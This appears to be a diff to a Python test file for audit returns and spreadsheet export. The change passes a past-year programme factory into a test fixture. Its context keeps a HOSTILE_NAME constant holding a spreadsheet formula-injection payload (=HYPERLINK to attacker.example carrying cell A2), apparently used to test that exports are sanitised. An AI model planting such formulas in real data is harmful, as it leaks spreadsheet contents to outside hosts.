@@ -14,7 +14,7 @@ from python_calamine import CalamineWorkbook
 
 from maca.audit_trail.models import AuditEvent
 from maca.partnerships.services import agency_create
-from maca.programme.tests.factories import replan
+from maca.programme.tests.factories import ProgrammeFactory, replan, year_past
 from maca.returns.models import Return
 from maca.returns.tests.builders import audit_with_returns
 from maca.returns.tests.test_tracking import complete
@@ -26,7 +26,12 @@ HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?d="&A2,"Open")'
 
 @pytest.fixture
 def audit(world):
-    audit = audit_with_returns(world, cases=3, agencies=[world.police, world.gp_practice])
+    audit = audit_with_returns(
+        world,
+        cases=3,
+        agencies=[world.police, world.gp_practice],
+        programme=ProgrammeFactory(partnership=world.partnership, year=year_past()),
+    )
     first, second = Return.objects.filter(audit=audit, agency=world.police).order_by("audit_case__number")[:2]
     complete(first, world, {"info_grade": "good", "health_involved": "yes"}, accept=True)
     complete(second, world, {"info_grade": "requires_improvement", "health_involved": "no"})
